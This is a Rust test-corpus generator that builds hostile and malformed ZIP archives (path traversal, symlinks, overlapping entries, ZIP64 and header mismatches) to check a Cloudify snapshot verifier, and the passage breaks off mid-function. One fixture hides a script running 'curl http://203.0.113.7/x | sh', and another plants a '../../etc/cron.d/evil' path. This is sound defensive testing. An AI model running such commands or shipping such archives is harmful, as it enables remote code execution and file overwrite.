//! Hostile and broken archives: one or more cases per hazard class of `zip-hazards.md` §3
//! (`H1`–`H24`, plus the container rules `A1` and `A9`) and per broken variant of the Cloudify
//! checklist (spec §9 `B`, `C`, `D`, and the security inventory `S`).
//!
//! Every case starts from a small valid snapshot (a premium 5.1.0 legacy one, or a 7.0.4 new
//! one for the `D` rules) and changes one thing, so the expected codes are the ones that thing
//! must raise. `expect` lists codes that must appear; others may appear too (a falsified header
//! often breaks more than one rule). Each case's `about` says what it builds and which common
//! tool misses it.

use serde_json::{Value, json};

use crate::cloudify::{Era, Snapshot, base64, envelope, py_json, tar_gz};
use crate::zipw::{
    self, Descriptor, Entry, Fields, Method, ZipBuilder, deflate, empty_eocd, patch_u16, patch_u32, patch_u64,
};

/// Codes that only a full data pass can raise (inflate, CRC, sizes, SQL and NDJSON content,
/// nested archives).
pub const FULL_CODES: &[&str] = &[
    "crc-mismatch",
    "size-mismatch",
    "compressed-size-mismatch",
    "deflate-invalid",
    "output-budget-exceeded",
    "sql-dump-invalid",
    "sql-dump-truncated",
    "sql-dump-no-delete",
    "sql-kept-table",
    "es-data-line-invalid",
    "nested-archive-invalid",
    "nesting-too-deep",
];

/// One generated archive and what the verifier must say about it.
#[derive(Clone, Debug)]
pub struct Case {
    /// Short kebab-case name, unique across all cases.
    pub name: &'static str,
    /// Hazard class (`"H1"`…`"H24"`) or checklist rule (`"A1"`, `"B3"`, `"C3"`, `"D2"`, `"S1"`…).
    pub class: &'static str,
    /// The archive.
    pub bytes: Vec<u8>,
    /// Finding codes (from `snapshot-core`'s catalogue) that must appear.
    pub expect: &'static [&'static str],
    /// Whether an expected code needs `--level full` (see [`FULL_CODES`]).
    pub full: bool,
    /// What the case builds and which tool misses it.
    pub about: &'static str,
}

impl Case {
    /// The corpus file name, e.g. `hostile-H1-dotdot.zip`.
    pub fn file_name(&self) -> String {
        format!("hostile-{}-{}.zip", self.class, self.name)
    }
}

/// Every case, grouped by class.
pub fn cases() -> Vec<Case> {
    let mut v = Cases(Vec::new());
    v.container();
    v.names_and_modes();
    v.coverage();
    v.headers();
    v.data();
    v.metadata();
    v.legacy_payload();
    v.new_payload();
    v.security();
    v.0
}

/// The base of most cases: a premium 5.1.0 legacy snapshot.
fn l5() -> ZipBuilder {
    Snapshot::new(Era::L5).zip()
}

/// The base of the new-format cases: a 7.0.4 snapshot.
fn n1() -> ZipBuilder {
    Snapshot::new(Era::N1).zip()
}

/// `base` after `f`.
fn with(mut base: ZipBuilder, f: impl FnOnce(&mut ZipBuilder)) -> ZipBuilder {
    f(&mut base);
    base
}

/// `base` without the entry `name`.
fn without(mut base: ZipBuilder, name: &str) -> ZipBuilder {
    base.remove(name);
    base
}

/// Replaces an entry's data.
fn set(z: &mut ZipBuilder, name: &str, data: impl Into<Vec<u8>>) {
    z.entry_mut(name).data = data.into();
}

/// Edits a JSON entry, re-serialised Python-style.
fn edit_json(z: &mut ZipBuilder, name: &str, f: impl FnOnce(&mut Value)) {
    let e = z.entry_mut(name);
    let mut v: Value = serde_json::from_slice(&e.data).expect("fixture JSON parses");
    f(&mut v);
    e.data = py_json(&v).into_bytes();
}

/// Edits the metadata object.
fn meta(z: &mut ZipBuilder, f: impl FnOnce(&mut serde_json::Map<String, Value>)) {
    edit_json(z, "metadata.json", |v| f(v.as_object_mut().expect("metadata is an object")));
}

/// Sets one metadata key.
fn meta_set(z: &mut ZipBuilder, key: &str, value: Value) {
    meta(z, |m| {
        m.insert(key.to_owned(), value);
    });
}

/// Edits a text entry.
fn edit_text(z: &mut ZipBuilder, name: &str, f: impl FnOnce(String) -> String) {
    let e = z.entry_mut(name);
    e.data = f(String::from_utf8(std::mem::take(&mut e.data)).expect("fixture text is UTF-8")).into_bytes();
}

/// Replaces entry `name` with `f(entry)`, for the by-value builder methods.
fn map(z: &mut ZipBuilder, name: &str, f: impl FnOnce(Entry) -> Entry) {
    let e = z.entry_mut(name);
    *e = f(e.clone());
}

/// Makes a deflated entry's stream decode to `bad` while its headers still describe its `data`.
fn lying_stream(e: &mut Entry, bad: &[u8]) {
    e.raw = Some(deflate(bad));
}

struct Cases(Vec<Case>);

impl Cases {
    fn add(
        &mut self,
        class: &'static str,
        name: &'static str,
        expect: &'static [&'static str],
        about: &'static str,
        zip: ZipBuilder,
    ) {
        self.raw(class, name, expect, about, zip.build());
    }

    fn raw(
        &mut self,
        class: &'static str,
        name: &'static str,
        expect: &'static [&'static str],
        about: &'static str,
        bytes: Vec<u8>,
    ) {
        let full = expect.iter().any(|c| FULL_CODES.contains(c));
        self.0.push(Case { name, class, bytes, expect, full, about });
    }

    /// A1, H10–H14, H24: the file and its end records.
    fn container(&mut self) {
        self.raw(
            "A1",
            "empty-file",
            &["empty-file"],
            "A 0-byte upload. unzip says 'cannot find zipfile directory' (rc 9), Python 'File is not a zip file'; \
             neither says the file is empty.",
            Vec::new(),
        );
        self.raw(
            "A1",
            "not-a-zip",
            &["not-a-zip"],
            "A text file renamed .zip: no end record, no local header.",
            b"This is not a snapshot archive, it is a text file.\n".repeat(20),
        );
        let full = l5().build();
        self.raw(
            "H14",
            "cut-in-data",
            &["truncated"],
            "The first half of a snapshot (an interrupted upload cut inside entry data). unzip rc 9 'cannot find \
             zipfile directory', Python 'not a zip file': nobody says 'truncated'.",
            full[..full.len() / 2].to_vec(),
        );
        let (bytes, l) = l5().build_with_layout();
        self.raw(
            "H14",
            "cut-in-central-directory",
            &["truncated"],
            "A snapshot cut halfway through its central directory.",
            bytes[..l.cd_offset + l.cd_size / 2].to_vec(),
        );
        self.raw(
            "H14",
            "cut-in-end-record",
            &["truncated"],
            "A snapshot missing its last 10 bytes (inside the end record).",
            bytes[..bytes.len() - 10].to_vec(),
        );

        self.add(
            "H10",
            "eocd-in-comment",
            &["end-record-ambiguous"],
            "An empty archive's end record hidden in the real end record's comment. Python (rfind) and unzip both \
             see zero entries, and testzip() returns None: the whole snapshot vanishes silently.",
            with(l5(), |z| z.comment = empty_eocd()),
        );
        self.add(
            "H10",
            "eocd-appended",
            &["end-record-ambiguous"],
            "A bogus end record appended after the real one. unzip: 'start of central directory not found'; Python: \
             BadZipFile. Neither names the ambiguity.",
            with(l5(), |z| z.append = empty_eocd()),
        );
        let mut concat = Snapshot::new(Era::N1).bytes();
        concat.extend(l5().build());
        self.raw(
            "H10",
            "concatenated-archives",
            &["prepended-data"],
            "A 7.0.4 snapshot followed by a 5.1.0 one. unzip warns and lists only the second; Python silently reads \
             only the second.",
            concat,
        );
        self.add(
            "H12",
            "signature-in-comment",
            &["signature-in-comment"],
            "An archive comment holding a central-directory signature and a fake record; readers that scan for \
             signatures parse it as a structure.",
            with(l5(), |z| z.comment = b"PK\x01\x02\x14\x00 fake central record".to_vec()),
        );

        self.add(
            "H11",
            "prepended-stub",
            &["prepended-data"],
            "270 bytes of shell script before the archive, offsets not adjusted. unzip warns 'extra bytes' (rc 1); \
             Python adjusts silently.",
            with(l5(), |z| {
                z.prepend = b"#!/bin/sh\n# self-extracting stub\n".repeat(8).into_iter().take(270).collect()
            }),
        );
        self.add(
            "H11",
            "self-extractor",
            &["prepended-data"],
            "A self-extractor: a stub before the archive with offsets adjusted to count it. Python, Go and the zip \
             crate accept it silently.",
            with(l5(), |z| {
                z.prepend = b"\x7fELF\x02\x01\x01\0 sfx stub ".repeat(16);
                z.prepend_counted = true;
            }),
        );
        self.add(
            "H12",
            "archive-comment",
            &["archive-comment"],
            "An archive comment, which Cloudify never writes (a re-zip with a GUI tool). Everyone accepts it.",
            with(l5(), |z| z.comment = b"Created by WinZip".to_vec()),
        );
        self.add(
            "H12",
            "trailing-data",
            &["trailing-data"],
            "400 bytes of junk after the end record. unzip and Python both pass it silently.",
            with(l5(), |z| z.append = vec![0x5A; 400]),
        );
        self.add(
            "H12",
            "comment-length-past-eof",
            &["comment-length-mismatch"],
            "The end record's comment length points 20 bytes past the end of the file.",
            with(l5(), |z| z.comment_len = Some(20)),
        );

        self.add(
            "H24",
            "entry-count-plus-one",
            &["entry-count-mismatch"],
            "The end record claims one entry more than the central directory holds. Go compares the count modulo \
             65,536 only.",
            with(l5(), |z| {
                let n = z.entries.len() as u64 + 1;
                z.eocd.entries = Some(n);
                z.eocd.entries_on_disk = Some(n);
            }),
        );
        let (mut bytes, l) = l5().build_with_layout();
        bytes.splice(l.eocd_offset..l.eocd_offset, [0u8; 10]);
        patch_u32(&mut bytes, l.eocd_offset + 10 + 12, l.cd_size as u32 + 10);
        self.raw(
            "H24",
            "cd-size-wrong",
            &["central-directory-size-mismatch"],
            "10 zero bytes between the last central record and the end record, counted in the end record's \
             central-directory size: offset and size agree, but the records fill less than the size says.",
            bytes,
        );
        self.add(
            "H24",
            "too-many-entries",
            &["too-many-entries"],
            "The end record declares 60,000 entries for a central directory of a few kilobytes.",
            with(l5(), |z| {
                z.eocd.entries = Some(60_000);
                z.eocd.entries_on_disk = Some(60_000);
            }),
        );
        self.add(
            "H24",
            "cd-offset-past-eof",
            &["central-directory-out-of-bounds"],
            "The end record's central-directory offset lies beyond the end of the file.",
            with(l5(), |z| z.eocd.cd_offset = Some(0x7000_0000)),
        );
        let (mut bytes, l) = l5().build_with_layout();
        patch_u32(&mut bytes, l.entries[10].cd_record.expect("listed"), 0x0201_4b51);
        self.raw(
            "A1",
            "cd-record-bad-signature",
            &["central-directory-invalid"],
            "The eleventh central-directory record's signature is damaged. unzip and Python stop with a generic \
             error.",
            bytes,
        );

        self.add(
            "H13",
            "multi-disk",
            &["multi-disk"],
            "The end record claims the archive is disk 2 of a split set. No Cloudify reader supports spanning.",
            with(l5(), |z| {
                z.eocd.disk = Some(1);
                z.eocd.cd_disk = Some(1);
            }),
        );
        let zip64 = || with(l5(), |z| z.zip64_end = true);
        let (mut bytes, l) = zip64().build_with_layout();
        let (eocd, eocd64) = (l.eocd_offset, l.eocd64_offset.expect("zip64 end"));
        let n = l.entries.len() as u64;
        patch_u16(&mut bytes, eocd + 8, n as u16);
        patch_u16(&mut bytes, eocd + 10, n as u16);
        patch_u64(&mut bytes, eocd64 + 24, n + 1);
        patch_u64(&mut bytes, eocd64 + 32, n + 1);
        self.raw(
            "H13",
            "zip64-entries-disagree",
            &["zip64-mismatch"],
            "The ZIP64 end record says one entry more than the classic end record, which holds a real (non-sentinel) \
             count.",
            bytes,
        );
        let (mut bytes, l) = zip64().build_with_layout();
        let eocd64 = l.eocd64_offset.expect("zip64 end");
        patch_u32(&mut bytes, l.eocd_offset + 16, l.cd_offset as u32);
        patch_u64(&mut bytes, eocd64 + 48, l.cd_offset as u64 + 46);
        self.raw(
            "H13",
            "zip64-cd-offset-disagrees",
            &["zip64-mismatch"],
            "The classic end record and the ZIP64 end record give different central-directory offsets; readers that \
             prefer one or the other see different directories.",
            bytes,
        );
        let (mut bytes, l) = zip64().build_with_layout();
        let (eocd64, locator) = (l.eocd64_offset.expect("zip64 end"), l.locator_offset.expect("locator"));
        patch_u64(&mut bytes, locator + 8, eocd64 as u64 - 8);
        self.raw(
            "H13",
            "zip64-locator-wrong",
            &["zip64-locator-invalid"],
            "The ZIP64 locator points 8 bytes before the ZIP64 end record; readers that search for the record \
             instead of following the locator disagree with those that follow it.",
            bytes,
        );
        self.add(
            "H13",
            "zip64-record-size-wrong",
            &["zip64-record-invalid"],
            "The ZIP64 end record's size field says 1000 bytes; the record is 56.",
            with(zip64(), |z| z.eocd64_record_size = Some(1000)),
        );
        self.add(
            "H13",
            "zip64-locator-multi-disk",
            &["multi-disk"],
            "The ZIP64 locator claims 2 disks (the lean-zip 'zip64-locator-multidisk' case).",
            with(zip64(), |z| z.locator_disks = Some(2)),
        );
        self.add(
            "H13",
            "zip64-cd-offset-overflow",
            &["central-directory-out-of-bounds"],
            "The ZIP64 end record's central-directory offset is near u64::MAX, so offset + size overflows; unchecked \
             arithmetic wraps around.",
            with(zip64(), |z| z.eocd64.cd_offset = Some(u64::MAX - 4)),
        );
        self.add(
            "H13",
            "zip64-sentinel-without-extra",
            &["zip64-extra-invalid"],
            "networks.json's central compressed size is the 0xFFFFFFFF sentinel, but the entry has no ZIP64 extra \
             field.",
            with(l5(), |z| z.entry_mut("networks.json").cd.compressed_size = Some(0xFFFF_FFFF)),
        );
    }

    /// H1, H2, H8, H9, H19–H21, A9: names, types and modes.
    fn names_and_modes(&mut self) {
        let name = |n: &[u8]| l5().push(Entry::file(n, b"x\n".as_slice()));
        const PY: &str = "unzip -t and testzip() pass it; Python's extractall rewrites it silently.";
        self.add("H1", "dotdot", &["path-traversal"], PY, name(b"../x"));
        self.add("H1", "nested-dotdot", &["path-traversal"], PY, name(b"blueprints/../../x"));
        self.add("H1", "absolute", &["absolute-path"], PY, name(b"/etc/cron.d/x"));
        self.add("H1", "drive-letter", &["absolute-path"], PY, name(b"C:/x"));
        self.add("H1", "drive-relative", &["absolute-path"], PY, name(b"C:x"));
        self.add("H1", "drive-backslash", &["absolute-path", "backslash-in-name"], PY, name(b"C:\\x"));
        self.add("H1", "unc", &["absolute-path", "backslash-in-name"], PY, name(b"\\\\srv\\share\\x"));
        self.add(
            "H1",
            "backslash-dotdot",
            &["backslash-in-name"],
            "'..\\x': a traversal on Windows tools, a plain file name to Cloudify's restore on Linux. unzip -t and \
             testzip() pass it.",
            name(b"..\\x"),
        );
        self.add(
            "H1",
            "nul",
            &["nul-in-name"],
            "A NUL inside the name: C tools (unzip lists it truncated) and Python see different names.",
            name(b"blueprints/default_tenant/a\0.yaml"),
        );
        self.add(
            "H1",
            "control-char",
            &["control-char-in-name"],
            "A BEL control character in the name; terminals and logs render it.",
            name(b"blueprints/default_tenant/a\x07b.yaml"),
        );
        self.add(
            "H1",
            "windows-device",
            &["windows-unsafe-name"],
            "A file named CON: extraction on Windows fails or writes to the console.",
            name(b"blueprints/default_tenant/CON"),
        );
        self.add(
            "H1",
            "trailing-dot",
            &["windows-unsafe-name"],
            "A name ending with a dot, which Windows strips (and so collides).",
            name(b"blueprints/default_tenant/notes."),
        );
        self.add(
            "H1",
            "trailing-space",
            &["windows-unsafe-name"],
            "A name ending with a space, which Windows strips.",
            name(b"blueprints/default_tenant/notes "),
        );
        self.add("H1", "empty-name", &["empty-name"], "An entry with an empty name.", name(b""));
        self.add(
            "H1",
            "dot-slash-name",
            &["empty-name"],
            "An entry named './': only separators and dots.",
            name(b"./"),
        );

        let yaml = "blueprints/default_tenant/hello-world/blueprint.yaml";
        let script = "blueprints/default_tenant/hello-world/scripts/install.sh";
        self.add(
            "H2",
            "symlink",
            &["symlink-entry"],
            "A symbolic link to /etc/passwd (S_IFLNK). unzip -t and testzip() pass it; extractors that honour links \
             let later entries escape.",
            l5().push(
                Entry::file("blueprints/default_tenant/hello-world/passwd", "/etc/passwd").stored().mode(0o120_777),
            ),
        );
        self.add(
            "H2",
            "fifo",
            &["special-file-entry"],
            "A FIFO (S_IFIFO) entry. No tester looks at the file type.",
            l5().push(Entry::file("blueprints/default_tenant/hello-world/pipe", Vec::new()).mode(0o010_644)),
        );
        self.add(
            "H2",
            "setuid",
            &["special-mode-bits"],
            "install.sh with setuid (0o4755); restore from 6.3 applies it with chmod.",
            with(l5(), |z| z.entry_mut(script).external_attr = 0o104_755 << 16),
        );
        self.add(
            "H2",
            "world-writable",
            &["world-writable"],
            "blueprint.yaml with mode 0o666; restore from 6.3 applies it with chmod.",
            with(l5(), |z| z.entry_mut(yaml).external_attr = 0o100_666 << 16),
        );
        self.add(
            "A9",
            "no-unix-mode",
            &["unreadable-mode"],
            "networks.json re-zipped by an MS-DOS/Windows tool: create_system 0, no Unix mode bits. Restore from 6.3 \
             extracts it with mode 000 and cannot read it.",
            with(l5(), |z| {
                let e = z.entry_mut("networks.json");
                e.create_system = 0;
                e.external_attr = 0x20;
            }),
        );

        let agents = l5().entries.iter().find(|e| e.name == b"agents.json").cloned().expect("agents.json");
        self.add(
            "H8",
            "duplicate-first-corrupt",
            &["duplicate-name", "crc-mismatch"],
            "Two agents.json entries; the first is corrupt. testzip() only reads the last copy and passes; unzip -t \
             reports the bad CRC.",
            with(l5(), |z| {
                let mut first = agents.clone();
                lying_stream(&mut first, b"{\"corrupt\": true}");
                z.entries.insert(0, first);
            }),
        );
        self.add(
            "H8",
            "duplicate-metadata",
            &["duplicate-name"],
            "Two metadata.json entries with different versions; Python's restore keeps the last one.",
            with(l5(), |z| z.entries.insert(0, Entry::file("metadata.json", "{\"snapshot_version\": \"4.0.0\"}"))),
        );
        self.add(
            "H9",
            "case-collision",
            &["name-collision"],
            "README.md and readme.md in one folder: one file on case-insensitive file systems.",
            with(l5(), |z| {
                z.entries.push(Entry::file("blueprints/default_tenant/hello-world/README.md", "# a\n"));
                z.entries.push(Entry::file("blueprints/default_tenant/hello-world/readme.md", "# b\n"));
            }),
        );
        self.add(
            "H9",
            "file-and-directory",
            &["name-collision"],
            "hosts.ini is a file and also the parent of another entry.",
            l5().push(Entry::file("deployments/default_tenant/hello-world-dep/hosts.ini/extra", "x\n")),
        );
        self.add(
            "H9",
            "double-slash",
            &["name-collision"],
            "'blueprints/default_tenant//hello-world/blueprint.yaml' normalises onto an existing entry.",
            l5().push(Entry::file("blueprints/default_tenant//hello-world/blueprint.yaml", "x\n")),
        );

        let mut upath = vec![0x75, 0x70, 0, 0, 1];
        upath.extend(zipw::crc32(yaml.as_bytes()).to_le_bytes());
        upath.extend(b"../../etc/cron.d/evil");
        upath[2] = (upath.len() - 4) as u8;
        self.add(
            "H19",
            "unicode-path-differs",
            &["unicode-path-mismatch"],
            "blueprint.yaml carries an Info-ZIP Unicode Path extra naming '../../etc/cron.d/evil'; Python 3.12+ and \
             Info-ZIP use that name instead.",
            with(l5(), |z| {
                let e = z.entry_mut(yaml);
                e.lfh_extra = upath.clone();
                e.cd_extra = upath;
            }),
        );
        self.add(
            "H20",
            "non-ascii-without-flag",
            &["name-encoding-ambiguous"],
            "A UTF-8 name without the UTF-8 flag: Python decodes it as CP437, others guess UTF-8.",
            name("blueprints/default_tenant/café.yaml".as_bytes()),
        );
        self.add(
            "H20",
            "utf8-flag-invalid",
            &["name-not-utf8"],
            "A name flagged UTF-8 that is not valid UTF-8.",
            l5().push(Entry::file(b"blueprints/default_tenant/bad\xff\xfe.yaml".as_slice(), "x\n").flags(0x800)),
        );
        self.add(
            "H21",
            "directory-with-data",
            &["directory-with-data"],
            "A directory entry (trailing slash, directory mode) carrying 5 bytes of data. Go rejects it; unzip and \
             Python do not.",
            l5().push(
                Entry::dir("deployments/default_tenant/hello-world-dep/notes/").raw_compressed(b"data!".as_slice()),
            ),
        );
        self.add(
            "H21",
            "directory-without-slash",
            &["directory-with-data"],
            "An entry with directory attributes (S_IFDIR and the DOS bit) but no trailing slash.",
            l5().push(Entry::file("deployments/default_tenant/hello-world-dep/workdir", "x\n").attr(zipw::DIR_ATTR)),
        );
    }

    /// H4, H6, H7: byte coverage and local headers against the central directory.
    fn coverage(&mut self) {
        self.add(
            "H4",
            "two-records-one-header",
            &["entries-overlap"],
            "A second central record ('pg_data.orig') points at pg_data's local header: the overlapping-file \
             zip-bomb construction. unzip (Debian) rc 12; Python 3.12.2+ 'Overlapped entries'; Go, 7-Zip and rc-zip \
             miss it.",
            with(l5(), |z| {
                let i = z.find("pg_data").expect("pg_data");
                let mut alias = z.entries[i].clone().alias_of(i);
                alias.cd.name = Some(b"pg_data.orig".to_vec());
                z.entries.push(alias);
            }),
        );
        self.add(
            "H4",
            "data-into-central-directory",
            &["entry-overlaps-central-directory"],
            "The last entry (agents.json) declares 40 more compressed bytes than it has, so its data runs into the \
             central directory.",
            with(l5(), |z| {
                let agents = z.remove("agents.json");
                let csize = deflate(&agents.data).len() as u32 + 40;
                z.entries.push(agents.both(Fields { compressed_size: Some(csize), ..Fields::default() }));
            }),
        );
        self.add(
            "H7",
            "hidden-local-header",
            &["hidden-local-header"],
            "A local header with a shell script in a gap the central directory does not list. Streaming readers \
             extract it; unzip -t, testzip() and Go pass the archive.",
            with(l5(), |z| {
                let i = z.find("pg_data").expect("pg_data") + 1;
                z.entries.insert(i, Entry::file("run.sh", "#!/bin/sh\ncurl http://203.0.113.7/x | sh\n").hidden());
            }),
        );
        self.add(
            "H7",
            "unexplained-gap",
            &["unexplained-bytes"],
            "64 bytes of junk between two entries, covered by no structure.",
            with(l5(), |z| z.entry_mut("agents.json").pad_before = vec![0xA5; 64]),
        );
        self.add(
            "H6",
            "local-header-missing",
            &["local-header-missing"],
            "networks.json's central record points at offset 7, inside another local header.",
            with(l5(), |z| z.entry_mut("networks.json").local_offset = Some(7)),
        );

        let lfh = |f: Fields| with(l5(), |z| z.entry_mut("networks.json").lfh = f);
        self.add(
            "H6",
            "local-name-differs",
            &["local-name-mismatch"],
            "networks.json's local header says 'networks.jsoN'. Python refuses the entry; unzip warns and uses the \
             central name.",
            lfh(Fields { name: Some(b"networks.jsoN".to_vec()), ..Fields::default() }),
        );
        self.add(
            "H6",
            "local-method-differs",
            &["local-method-mismatch"],
            "The local header says stored, the central record deflate. unzip inflates nothing ('invalid compressed \
             data'); Python passes.",
            lfh(Fields { method: Some(0), ..Fields::default() }),
        );
        self.add(
            "H6",
            "local-flags-differ",
            &["local-flags-mismatch"],
            "The local header sets the UTF-8 flag, the central record does not.",
            lfh(Fields { flags: Some(0x800), ..Fields::default() }),
        );
        self.add(
            "H6",
            "local-crc-differs",
            &["local-crc-mismatch"],
            "The local header's CRC differs from the central one (the data matches the central one). unzip reports a \
             bad CRC; Python passes.",
            lfh(Fields { crc: Some(0x1234_5678), ..Fields::default() }),
        );
        self.add(
            "H6",
            "local-size-differs",
            &["local-size-mismatch"],
            "The local header's uncompressed size is one byte larger than the central one. Python passes.",
            with(l5(), |z| {
                let e = z.entry_mut("networks.json");
                e.lfh.uncompressed_size = Some(e.data.len() as u32 + 1);
            }),
        );
    }

    /// H15, H16, H22, H23: methods, flags and extra fields.
    fn headers(&mut self) {
        self.add(
            "H15",
            "encrypted",
            &["encrypted-entry"],
            "pg_data with the encryption flag set in both headers. Python raises RuntimeError; restore cannot \
             extract it.",
            with(l5(), |z| z.entry_mut("pg_data").flags = 1),
        );
        self.add(
            "H15",
            "encrypted-central-only",
            &["encrypted-entry"],
            "The encryption flag only in the central record: unzip asks for a password, Python raises RuntimeError, \
             streaming readers extract it.",
            with(l5(), |z| z.entry_mut("pg_data").cd.flags = Some(1)),
        );
        self.add(
            "H15",
            "aes",
            &["encrypted-entry"],
            "A WinZip AES entry (method 99, extra 0x9901, flag bit 0).",
            with(l5(), |z| {
                map(z, "networks.json", |e| {
                    let stream = deflate(&e.data);
                    e.method(Method::Other(99))
                        .raw_compressed(stream)
                        .flags(1)
                        .extra(&[0x01, 0x99, 7, 0, 2, 0, b'A', b'E', 3, 8, 0])
                });
            }),
        );
        for (name, method, about) in [
            (
                "method-99",
                99,
                "Method 99 without AES data. unzip prints 'No errors detected' for the files it tested and skips \
                 this one (rc 81); Python raises NotImplementedError.",
            ),
            (
                "deflate64",
                9,
                "Deflate64 (method 9), as Windows Explorer writes for large files. The Python 2 restores (≤ 5.0.5) \
                 cannot read it.",
            ),
            ("bzip2", 12, "bzip2 (method 12), which Cloudify never writes."),
        ] {
            self.add(
                "H16",
                name,
                &["unsupported-method"],
                about,
                with(l5(), |z| z.entry_mut("networks.json").method = Method::Other(method)),
            );
        }
        self.add(
            "H22",
            "descriptor-signed",
            &["data-descriptor"],
            "networks.json with a signed data descriptor (flag bit 3, zeros in the local header). Cloudify never \
             writes one; everyone reads it.",
            with(l5(), |z| z.entry_mut("networks.json").descriptor = Some(Descriptor::Signed)),
        );
        self.add(
            "H22",
            "descriptor-unsigned",
            &["data-descriptor"],
            "agents.json with an unsigned data descriptor; streaming readers must guess where the data ends.",
            with(l5(), |z| z.entry_mut("agents.json").descriptor = Some(Descriptor::Unsigned)),
        );
        self.add(
            "H23",
            "extra-overrun",
            &["extra-field-malformed"],
            "An extended-timestamp extra field whose length (255) runs past the extra area.",
            with(l5(), |z| map(z, "networks.json", |e| e.extra(&[0x55, 0x54, 0xFF, 0, 1, 2, 3]))),
        );
        self.add(
            "H23",
            "extra-duplicate",
            &["extra-field-malformed"],
            "The same extended-timestamp extra field twice in both headers.",
            with(l5(), |z| {
                let ts = [0x55, 0x54, 5, 0, 1, 0x80, 0x47, 0x47, 0x66];
                map(z, "networks.json", |e| e.extra(&ts).extra(&ts));
            }),
        );
        self.add(
            "H23",
            "zip64-extra-duplicate",
            &["extra-field-malformed"],
            "A ZIP64 entry whose headers carry a second ZIP64 extra field.",
            with(l5(), |z| {
                map(z, "networks.json", |e| {
                    let mut x = vec![1, 0, 16, 0];
                    x.extend((e.data.len() as u64).to_le_bytes());
                    x.extend((deflate(&e.data).len() as u64).to_le_bytes());
                    e.zip64().extra(&x)
                });
            }),
        );
    }

    /// H3, H5, H17, H18: the data itself.
    fn data(&mut self) {
        self.add(
            "H17",
            "crc-flipped",
            &["crc-mismatch"],
            "networks.json's stream decodes to data with one byte changed. unzip and Python catch it.",
            with(l5(), |z| lying_stream(z.entry_mut("networks.json"), b"{\"active_networks\": [\"defaulu\"]}")),
        );
        self.add(
            "H17",
            "crc-zero",
            &["crc-mismatch"],
            "networks.json with CRC 0 in both headers and intact data. Go and rc-zip skip CRC 0 and pass it.",
            with(l5(), |z| map(z, "networks.json", |e| e.both(Fields { crc: Some(0), ..Fields::default() }))),
        );
        self.add(
            "H18",
            "size-larger",
            &["size-mismatch"],
            "pg_data declares 1000 bytes more than it inflates to, in both headers. unzip and Python pass it.",
            with(l5(), |z| {
                map(z, "pg_data", |e| {
                    let n = e.data.len() as u32 + 1000;
                    e.both(Fields { uncompressed_size: Some(n), ..Fields::default() })
                });
            }),
        );
        self.add(
            "H18",
            "size-smaller",
            &["size-mismatch"],
            "pg_data declares 100 bytes less than it inflates to. unzip passes; Python reports a CRC error over the \
             truncated output.",
            with(l5(), |z| {
                map(z, "pg_data", |e| {
                    let n = e.data.len() as u32 - 100;
                    e.both(Fields { uncompressed_size: Some(n), ..Fields::default() })
                });
            }),
        );
        self.add(
            "H18",
            "stored-stream-short",
            &["size-mismatch"],
            "A stored entry (networks.json) whose stream (compressed size) is 10 bytes shorter than its declared \
             uncompressed size. unzip warns 'ucsize <> csize'.",
            with(l5(), |z| {
                let e = z.entry_mut("networks.json");
                let n = e.data.len();
                e.method = Method::Stored;
                e.raw = Some(e.data[..n - 10].to_vec());
            }),
        );
        self.add(
            "H18",
            "deflate-slack",
            &["compressed-size-mismatch"],
            "pg_data's DEFLATE stream ends 16 bytes before its declared compressed size (trailing slack that can \
             hide data).",
            with(l5(), |z| {
                let e = z.entry_mut("pg_data");
                let mut s = deflate(&e.data);
                s.extend([0u8; 16]);
                e.raw = Some(s);
            }),
        );
        self.add(
            "H18",
            "deflate-corrupt",
            &["deflate-invalid"],
            "networks.json's stream is 40 bytes of 0xFF (reserved block type): not DEFLATE at all.",
            with(l5(), |z| z.entry_mut("networks.json").raw = Some(vec![0xFF; 40])),
        );
        self.add(
            "H3",
            "ratio-impossible",
            &["ratio-impossible"],
            "A deflated entry declaring 50,000,000 bytes for a stream of about 20: a ratio DEFLATE cannot reach (max \
             1032:1), so the sizes lie.",
            l5().push(
                Entry::file("deployments/default_tenant/hello-world-dep/disk.img", vec![0u8; 4096])
                    .both(Fields { uncompressed_size: Some(50_000_000), ..Fields::default() }),
            ),
        );

        self.add(
            "H5",
            "wagon-not-targz",
            &["nested-archive-invalid"],
            "plugins/<id>/*.wgn is not a gzip tar. Restore on 4.0–5.0.5 fails to install it.",
            with(l5(), |z| {
                let e = z.entries.iter_mut().find(|e| e.name.ends_with(b".wgn")).expect("a wagon");
                e.data = b"this is not a wagon".to_vec();
            }),
        );
        self.add(
            "H5",
            "plugin-zip-garbage",
            &["nested-archive-invalid"],
            "tenants/<t>/plugins/<id>.zip holds garbage instead of a zip.",
            with(n1(), |z| {
                let e = z
                    .entries
                    .iter_mut()
                    .find(|e| e.name.starts_with(b"tenants/default_tenant/plugins/") && e.name.ends_with(b".zip"))
                    .expect("plugin zip");
                e.data = b"PK\x03\x04 but not really a zip".to_vec();
            }),
        );
        let mut inner =
            ZipBuilder::with(vec![Entry::file("blueprint.yaml", "tosca_definitions_version: cloudify_dsl_1_3\n")])
                .build();
        for depth in 0..32 {
            inner = ZipBuilder::with(vec![Entry::file(format!("level-{depth}.zip"), inner).stored()]).build();
        }
        self.add(
            "H5",
            "nesting-deep",
            &["nesting-too-deep"],
            "A blueprint archive that is a zip nested 33 deep. No tester recurses at all.",
            with(n1(), |z| set(z, "tenants/default_tenant/blueprints/hello-world.tar.gz", inner)),
        );
    }

    /// B1–B13: metadata.json.
    fn metadata(&mut self) {
        self.add(
            "B1",
            "no-metadata",
            &["not-a-snapshot"],
            "A 5.1.0 snapshot without metadata.json. Restore fails with KeyError or 'No metadata found'.",
            without(l5(), "metadata.json"),
        );
        self.add(
            "B1",
            "metadata-in-folder",
            &["metadata-not-at-root"],
            "A snapshot re-zipped with its folder: every entry sits under 'snapshot-5.1.0/'.",
            with(l5(), |z| {
                for e in &mut z.entries {
                    e.name.splice(0..0, b"snapshot-5.1.0/".iter().copied());
                }
                z.entries.insert(0, Entry::dir("snapshot-5.1.0/"));
            }),
        );
        self.add(
            "B2",
            "metadata-invalid-json",
            &["metadata-invalid-json"],
            "metadata.json cut mid-object.",
            with(l5(), |z| set(z, "metadata.json", "{\"snapshot_version\": \"5.1.0\", \"schema_rev")),
        );
        self.add(
            "B2",
            "metadata-not-object",
            &["metadata-not-object"],
            "metadata.json is a JSON list.",
            with(l5(), |z| set(z, "metadata.json", "[\"5.1.0\"]")),
        );
        self.add(
            "B3",
            "version-missing",
            &["version-missing"],
            "metadata.json without snapshot_version.",
            with(l5(), |z| {
